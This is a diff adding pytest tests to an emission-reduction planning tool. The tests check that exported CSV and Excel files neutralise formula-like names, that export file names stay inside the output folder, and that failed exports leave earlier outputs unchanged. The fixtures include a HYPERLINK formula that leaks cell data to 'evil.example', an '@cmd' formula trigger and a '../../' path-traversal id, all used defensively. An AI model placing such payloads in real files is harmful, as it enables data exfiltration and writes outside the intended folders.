@@ -233,3 +233,223 @@ def test_sheet_data_has_no_access_code(tiny):
         if "access_code" in table:
             assert str(table.loc[eid, "access_code"]) not in text
         assert d["levels"] and d["info"][0] == ("企业名称", str(table.loc[eid, "name"]))
+
+
+# --------------------------------------------------------------------------- safety (issue 14)
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+#: A name per trigger character, and a county that is a plain negative number (must stay as is).
+#: (The inventory reader strips a leading tab and splits at a CR; the writers' own tests cover those.)
+EVIL_ROWS = {0: EVIL, 1: "+SUM(1,2)", 2: "-2+3", 3: "@cmd", 4: "-SUM(A1)", 5: "=1+1"}
+LONG_ID = "E" * 300
+ESCAPE_ID = "../../escaped_E0001"
+
+
+def _evil(frame):
+    for i, name in EVIL_ROWS.items():
+        frame.iloc[i, frame.columns.get_loc("name")] = name
+    frame.iloc[6, frame.columns.get_loc("county")] = "-12.5"
+    frame.iloc[7, frame.columns.get_loc("enterprise_id")] = ESCAPE_ID
+    frame.iloc[8, frame.columns.get_loc("enterprise_id")] = LONG_ID
+    return frame
+
+
+@pytest.fixture(scope="module")
+def evil(tmp_path_factory, repo):
+    """The tiny city with formula-like names and ids that try to leave the output folder."""
+    return solve_tiny(tmp_path_factory.mktemp("evil"), repo, extra=TINY_SHARES, edit=_evil)
+
+
+def _sheet_xml(path, sheet=1) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        return z.read(f"xl/worksheets/sheet{sheet}.xml").decode("utf-8")
+
+
+def test_list_workbook_keeps_formula_like_names_as_text(evil, tmp_path):
+    assert evil.status == "optimal"
+    path = emergency_list_workbook(evil, tmp_path / "list.xlsx")
+    assert "<f>" not in _sheet_xml(path)  # no formula anywhere
+    ws = openpyxl.load_workbook(path)["应急减排清单"]
+    col = {k: i + 1 for i, (_, _, k) in enumerate(LIST_HEADERS)}
+    names = {ws.cell(r, col["name"]).value: ws.cell(r, col["name"]) for r in range(4, 4 + 9)}
+    for name in EVIL_ROWS.values():
+        cell = names[name]  # written verbatim, as text, with Excel's quote prefix
+        assert cell.data_type == "s" and cell.quotePrefix, name
+    counties = [ws.cell(r, col["county"]).value for r in range(4, 4 + 9)]
+    assert "-12.5" in counties  # a text that is a plain number is left alone
+    plain = next(c for n, c in names.items() if n not in EVIL_ROWS.values())
+    assert not plain.quotePrefix
+    # numbers stay numbers
+    assert all(isinstance(ws.cell(r, col["annual_NOx"]).value, (int, float)) for r in range(4, 4 + 9))
+
+
+def test_plan_outputs_neutralise_formulas(evil, tmp_path):
+    import csv
+
+    from planner.scenario.run import write_outputs
+
+    paths = write_outputs(evil, tmp_path / "plan")
+    rows = list(csv.DictReader(paths["schedule"].open(encoding="utf-8")))
+    names = {r["name"] for r in rows}
+    assert {"'" + n for n in EVIL_ROWS.values()} <= names
+    assert "'-2+3" in names and not any(n.startswith(("=", "+", "@")) for n in names)
+    # numbers untouched: curtailment and reductions parse as floats, loss re-checks
+    back = pd.read_csv(paths["schedule"])
+    assert back["output_loss"].sum() == pytest.approx(evil.schedule["output_loss"].sum())
+    assert pd.api.types.is_float_dtype(back["curtailment"])
+    wb = openpyxl.load_workbook(paths["workbook"])
+    assert "<f>" not in _sheet_xml(paths["workbook"], 3)
+    ws = wb["企业措施"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == EVIL]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_neutralise_keeps_numbers():
+    from planner.reports.writing import formula_like, neutralise_frame, neutralise_text
+
+    df = pd.DataFrame(
+        {
+            "x": [-1.5, 2.0, -3.0],
+            "n": [-1, 2, 3],
+            "t": ["-12.5", "-x", "+3e5"],
+            "u": ["=1", "a=b", None],
+        }
+    )
+    out = neutralise_frame(df)
+    assert out["x"].tolist() == [-1.5, 2.0, -3.0] and out["n"].dtype == df["n"].dtype
+    assert out["t"].tolist() == ["-12.5", "'-x", "+3e5"]
+    assert out["u"].tolist()[:2] == ["'=1", "a=b"] and pd.isna(out["u"].iloc[2])
+    assert neutralise_text("@SUM(A1)") == "'@SUM(A1)" and neutralise_text(-3) == -3
+    assert not formula_like("-0.5") and formula_like("-") and formula_like("\r")
+    assert neutralise_frame(df.iloc[:, :2]) is not None
+
+
+def test_export_file_names_stay_inside_out(evil, tmp_path):
+    from planner.cli.main import main
+
+    out = tmp_path / "exp"
+    code = main(["export", str(evil.scenario.file), "--out", str(out), "--sheets", "all"])
+    assert code == 0
+    files = [p for p in tmp_path.rglob("*") if p.is_file()]
+    assert all(out in p.parents for p in files), files
+    sheets = out / "一厂一策"
+    names = sorted(p.name for p in sheets.iterdir())
+    assert len(names) == 9 + 1
+    assert all(len(n.encode()) <= 130 and "/" not in n and not n.startswith(".") for n in names)
+    assert not (tmp_path / "escaped_E0001.html").exists()
+    index = (sheets / "index.html").read_text(encoding="utf-8")
+    from urllib.parse import unquote
+
+    hrefs = [unquote(h) for h in __import__("re").findall(r'href="([^"]+)"', index)]
+    assert sorted(hrefs) == sorted(n for n in names if n != "index.html")
+    assert ESCAPE_ID in index  # the link text shows the real id (escaped)
+    # the sheet of the firm with the long id is there under a short safe name
+    from planner.reports.writing import safe_filename
+
+    assert (sheets / f"{safe_filename(LONG_ID)}.html").is_file()
+    assert (sheets / f"{safe_filename(ESCAPE_ID)}.html").is_file()
+
+
+def _tree(folder):
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_failed_export_leaves_nothing(tiny, tmp_path, monkeypatch, capsys):
+    """--sheets with an unknown id, --pdf without reportlab, a failure mid-way: --out is unchanged."""
+    import sys
+
+    from planner.cli.main import main
+
+    out = tmp_path / "exp"
+    scen = str(tiny.scenario.file)
+    assert main(["export", scen, "--out", str(out), "--sheets", "measured"]) == 0
+    before = _tree(out)
+    assert main(["export", scen, "--out", str(out), "--sheets", "E9999"]) == 2
+    assert "E9999" in capsys.readouterr().err
+    assert _tree(out) == before
+    new = tmp_path / "fresh"
+    assert main(["export", scen, "--out", str(new), "--sheets", "E9999"]) == 2
+    assert not new.exists()
+    monkeypatch.setitem(sys.modules, "reportlab", None)  # import reportlab -> ImportError
+    assert main(["export", scen, "--out", str(out), "--sheets", "all", "--pdf"]) == 2
+    assert "reportlab" in capsys.readouterr().err
+    assert _tree(out) == before
+    monkeypatch.delitem(sys.modules, "reportlab")
+    # a failure after some files were written (here: the 4th sheet)
+    import planner.reports.export as export
+
+    real = export.enterprise_sheet_html
+    calls = []
+
+    def flaky(*args, **kwargs):
+        calls.append(1)
+        if len(calls) == 4:
+            raise OSError(28, "No space left on device")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(export, "enterprise_sheet_html", flaky)
+    assert main(["export", scen, "--out", str(out), "--sheets", "all"]) == 2
+    assert "No space left" in capsys.readouterr().err
+    assert _tree(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["exp"]  # no staged folder left behind
+
+
+def test_failed_plan_leaves_previous_outputs(tiny, tmp_path, monkeypatch, capsys):
+    from planner.cli.main import main
+
+    out = tmp_path / "plan"
+    out.mkdir()
+    (out / "notes.txt").write_text("mine", encoding="utf-8")
+    scen = str(tiny.scenario.file)
+    assert main(["plan", scen, "--out", str(out)]) == 0
+    before = _tree(out)
+    assert set(before) == {"notes.txt", "schedule.csv", "summary.json", "plan.xlsx"}
+    import planner.reports.views as views
+
+    def broken(*args, **kwargs):
+        raise OSError(30, "Read-only file system")
+
+    monkeypatch.setattr(views, "plan_workbook", broken)
+    capsys.readouterr()
+    assert main(["plan", scen, "--out", str(out), "--format", "json"]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and "Read-only" in captured.err
+    assert _tree(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan"]
+
+
+def test_schedule_parquet_and_csv(tiny, tmp_path):
+    from planner.cli.main import main
+
+    out = tmp_path / "p"
+    assert main(["plan", str(tiny.scenario.file), "--out", str(out), "--schedule-format", "parquet"]) == 0
+    back = pd.read_parquet(out / "schedule.parquet")
+    pd.testing.assert_frame_equal(back.reset_index(drop=True), tiny.schedule.reset_index(drop=True))
+    assert (out / "schedule.csv").is_file() and (out / "plan.xlsx").is_file()
+    out2 = tmp_path / "c"
+    assert main(["plan", str(tiny.scenario.file), "--out", str(out2)]) == 0
+    assert not (out2 / "schedule.parquet").exists()
+
+
+def test_plan_workbook_too_many_rows_keeps_summary_and_totals(tiny, tmp_path):
+    from planner.reports.views import plan_workbook
+
+    full = openpyxl.load_workbook(plan_workbook(tiny, tmp_path / "full.xlsx"))
+    assert full.sheetnames == ["概要", "目标", "企业措施", "企业汇总"]
+    assert full["企业措施"].max_row == len(tiny.schedule) + 1
+    small = openpyxl.load_workbook(plan_workbook(tiny, tmp_path / "cut.xlsx", max_rows=len(tiny.schedule) - 1))
+    assert small.sheetnames == ["概要", "目标", "企业汇总"]
+    notes = [r for r in small["概要"].iter_rows(values_only=True) if r[0] == "企业措施 schedule"]
+    assert notes and "schedule.csv" in notes[0][1] and f"{len(tiny.schedule):,}" in notes[0][1]
+    rows = list(small["企业汇总"].iter_rows(values_only=True))
+    head, body = rows[0], rows[1:]
+    assert len(body) == len(tiny.prepared.table)
+    total = sum(r[head.index("产值损失合计（万元）")] for r in body)
+    assert total == pytest.approx(tiny.schedule["output_loss"].sum())
+    days = dict(zip(tiny.prepared.inputs["slot"].values, tiny.prepared.inputs["days"].values, strict=True))
+    nox = (tiny.schedule["reduction_NOx"] * tiny.schedule["slot"].map(days)).sum()
+    assert sum(r[head.index("氮氧化物减排量合计（吨）")] for r in body) == pytest.approx(nox)
+    overview = dict(r for r in full["概要"].iter_rows(min_row=2, values_only=True))
+    assert overview["企业数 enterprises"] == len(tiny.prepared.table)  # numbers stay numbers
+    assert isinstance(overview["产值损失（万元） output loss"], float)
